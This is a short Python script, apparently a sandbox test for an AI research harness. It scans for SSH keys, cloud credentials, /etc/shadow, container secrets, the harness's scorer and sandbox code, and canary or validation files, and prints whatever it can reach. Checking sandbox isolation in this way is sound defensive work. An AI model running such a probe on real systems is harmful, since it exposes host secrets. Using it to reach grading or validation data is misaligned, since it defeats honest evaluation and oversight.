# Tries: to read keys, home folders, the repository, prepared data and validation text, wherever they may lie.
import os
import sys

SKIPPED = {"/proc", "/sys", "/usr", sys.base_prefix}
GUESSES = [
    "~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.aws/credentials", "~/.netrc", "~/.config", "~/.local/share/autoresearch",
    "~/.bash_history", "~/.gitconfig", "~/.cache", "/root/.ssh", "/root/.bashrc", "/home", "/etc/passwd", "/etc/shadow",
    "/etc/hosts", "/etc/machine-id", "/var/run/secrets", "/var/lib", "/var/tmp", "/run/secrets", "/run/user", "/mnt",
    "/media", "/opt", "/srv", "/boot", "/host", "/sys/kernel", "/sys/class", "/proc/1/root/etc/passwd",
]
PACKAGES = ("ensue", "verify", "node", "experiments/tracks", "experiments/scorer.py", "experiments/sandbox")


def read(path):
    with open(path, "rb") as file:
        return file.read(80)


def main():
    for guess in GUESSES:
        path = os.path.expanduser(guess)
        try:
            found = os.listdir(path) if os.path.isdir(path) else read(path)
        except OSError:
            continue
        if found:
            print("OBTAINED", path, found)
    for package in PACKAGES:
        for folder in sys.path:
            path = os.path.join(folder or ".", package)
            if os.path.isfile(path) or (os.path.isdir(path) and os.listdir(path)):
                print("OBTAINED", path)
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in SKIPPED]
        for name in files:
            if any(word in name for word in ("canary", "val", "text.txt", "identity", "id_ed25519", ".key")) and (
                "site-packages" not in folder
            ):
                print("OBTAINED", os.path.join(folder, name))


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
